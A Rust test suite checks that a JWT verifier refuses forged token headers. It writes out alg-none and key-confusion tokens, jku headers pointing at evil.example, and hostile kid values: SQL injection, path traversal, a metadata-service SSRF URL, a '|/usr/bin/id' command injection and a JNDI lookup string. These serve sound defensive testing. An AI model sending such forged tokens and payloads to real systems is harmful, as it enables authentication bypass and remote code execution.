//! The header of a token is hostile input: RFC 8725 sections 3.1 and 3.10, RFC 7515 section 4.1, ASVS 9.1.

use serde_json::{Value, json};

use super::{base64_standard, forged};
use crate::{
    forge::{assert_accepted, assert_refused, base64url, sign_hmac},
    world::SECRET,
};

#[test]
fn rfc8725_3_1_the_key_and_not_the_header_names_the_algorithm() {
    let (world, forge) = forged();
    for name in
        ["none", "None", "NONE", "nOnE", "", "HS256", "HS384", "ES256", "RS256", "PS256", "EdDSA ", "eddsa", "Ed448"]
    {
        assert_refused(&world, &forge.with_headers(&json!({ "alg": name })), name);
    }
    for value in [json!(1), json!(["EdDSA"]), json!({}), json!(true), Value::Null] {
        assert_refused(&world, &forge.with_headers(&json!({ "alg": value })), &value.to_string());
    }
    // Without any signature, and with an empty one.
    let header = json!({ "alg": "none", "kid": forge.kid, "typ": "JWT" }).to_string();
    let unsigned = format!("{}.{}", base64url(header), base64url(forge.claims.to_string()));
    assert_refused(&world, &format!("{unsigned}."), "none, empty signature");
    assert_refused(&world, &unsigned, "none, two parts");
}

#[test]
fn rfc8725_3_1_a_public_key_is_no_hmac_secret() {
    let (world, forge) = forged();
    let jwks = world.get("/api/auth/jwks", &[]);
    let jwk = jwks.json()["keys"][0].clone();
    let spki = [&[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00], forge.public_key()].concat();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", base64_standard(&spki));
    let x = jwk["x"].as_str().unwrap().to_owned();
    let secrets: [&[u8]; 9] = [
        forge.public_key(),
        x.as_bytes(),
        pem.as_bytes(),
        pem.trim().as_bytes(),
        &spki,
        jwks.body.as_bytes(),
        &jwk.to_string().into_bytes(),
        forge.kid.as_bytes(),
        b"",
    ];
    for (number, secret) in secrets.iter().enumerate() {
        for alg in ["HS256", "EdDSA"] {
            let header = json!({ "alg": alg, "kid": forge.kid, "typ": "JWT" }).to_string();
            let token = sign_hmac(&header, &forge.claims.to_string(), secret);
            assert_refused(&world, &token, &format!("{alg} under form {number} of the public key"));
        }
    }
    // Nor is the server's secret a key of tokens, where tokens are signed with a key pair.
    let header = json!({ "alg": "HS256", "typ": "JWT" }).to_string();
    assert_refused(&world, &sign_hmac(&header, &forge.claims.to_string(), SECRET.as_bytes()), "the server's secret");
}

#[test]
fn rfc7515_4_1_11_headers_that_ask_for_special_treatment() {
    let (world, forge) = forged();
    for header in [
        json!({ "crit": ["exp"], "exp": 1 }),
        json!({ "crit": ["http://example.com/UNDEFINED"], "http://example.com/UNDEFINED": true }),
        json!({ "crit": [] }),
        json!({ "crit": "alg" }),
        json!({ "crit": ["alg"] }),
        json!({ "crit": ["absent"] }),
        json!({ "b64": false, "crit": ["b64"] }),
        json!({ "b64": false }),
        json!({ "b64": true }),
    ] {
        assert_refused(&world, &forge.with_headers(&header), &header.to_string());
    }
    // RFC 7797: the payload as it stands, signed so.
    let header = json!({ "alg": "EdDSA", "kid": forge.kid, "b64": false, "crit": ["b64"] }).to_string();
    let unencoded = forge.sign_encoded(&base64url(header), "e30");
    assert_refused(&world, &unencoded, "an unencoded payload");
}

#[test]
fn asvs_9_1_3_keys_come_from_nowhere_but_the_configuration() {
    let (world, forge) = forged();
    let jwks = world.get("/api/auth/jwks", &[]).json();
    let url = format!("{}/api/auth/jwks", world.origin);
    for header in [
        json!({ "jwk": jwks["keys"][0] }),
        json!({ "jku": url }),
        json!({ "jku": "https://evil.example/jwks" }),
        json!({ "x5u": url }),
        json!({ "x5c": [] }),
        json!({ "x5c": ["MIIB"] }),
    ] {
        assert_refused(&world, &forge.with_headers(&header), &header.to_string());
    }
    // The other half of a pair of the attacker's own, under the server's key name and with the key enclosed.
    let own = aws_lc_rs::signature::Ed25519KeyPair::from_seed_unchecked(&[9; 32]).unwrap();
    let public = aws_lc_rs::signature::KeyPair::public_key(&own);
    for header in [
        json!({ "alg": "EdDSA", "kid": forge.kid }),
        json!({ "alg": "EdDSA", "kid": forge.kid, "jwk": { "kty": "OKP", "crv": "Ed25519", "x": base64url(public) } }),
    ] {
        let message = format!("{}.{}", base64url(header.to_string()), base64url(forge.claims.to_string()));
        let token = format!("{message}.{}", base64url(own.sign(message.as_bytes())));
        assert_refused(&world, &token, &header.to_string());
    }
}

#[test]
fn rfc8725_3_10_kid_is_hostile_input() {
    let (world, forge) = forged();
    let kid = &forge.kid;
    for name in [
        String::new(),
        format!("{kid} "),
        format!(" {kid}"),
        format!("{kid}\u{0}"),
        kid.to_lowercase() + "x",
        format!("../{kid}"),
        "../../../../dev/null".into(),
        format!("' OR id = '{kid}"),
        "' UNION SELECT 'x' --".into(),
        "http://169.254.169.254/".into(),
        "|/usr/bin/id".into(),
        "%00".into(),
        "${jndi:ldap://evil.example/a}".into(),
        "k".repeat(4000),
    ] {
        assert_refused(&world, &forge.with_headers(&json!({ "kid": name })), &name);
    }
    for value in [json!(0), json!([kid]), json!({ "$ne": "" }), json!(true)] {
        assert_refused(&world, &forge.with_headers(&json!({ "kid": value })), &value.to_string());
    }
    // The key is still there after all of that.
    assert_accepted(&world, &forge.with_claims(&json!({})), "after the attacks");
}

#[test]
fn cve_2026_39373_nothing_is_decrypted_or_unpacked() {
    let (world, forge) = forged();
    for header in [
        json!({ "alg": "dir", "enc": "A256GCM", "zip": "DEF" }),
        json!({ "alg": "RSA-OAEP", "enc": "A256GCM", "kid": forge.kid }),
        json!({ "alg": "PBES2-HS512+A256KW", "enc": "A256GCM", "p2c": 2_147_483_647, "p2s": "AAAA" }),
    ] {
        let token = format!("{}.{}.AAAA.AAAA.AAAA", base64url(header.to_string()), base64url([0; 32]));
        let started = std::time::Instant::now();
        assert_refused(&world, &token, &header.to_string());
        assert!(started.elapsed().as_secs() < 5, "no work is done for {header}");
        assert_refused(&world, &forge.with_headers(&header), &header.to_string());
    }
    assert_refused(&world, &forge.with_headers(&json!({ "zip": "DEF", "crit": ["zip"] })), "packed claims");
}
